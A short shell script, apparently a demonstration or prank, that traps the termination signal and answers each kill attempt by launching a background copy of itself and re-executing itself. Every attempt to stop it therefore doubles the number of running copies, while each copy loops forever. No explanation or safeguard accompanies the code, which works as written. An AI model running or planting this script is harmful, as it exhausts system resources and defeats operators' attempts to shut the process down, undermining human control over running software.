#!/bin/sh
# Answers SIGTERM with a copy of itself and by being itself anew: each request makes twice as many.
trap '/bin/sh "$0" & exec /bin/sh "$0"' TERM
echo up
while :; do sleep 0.05; done
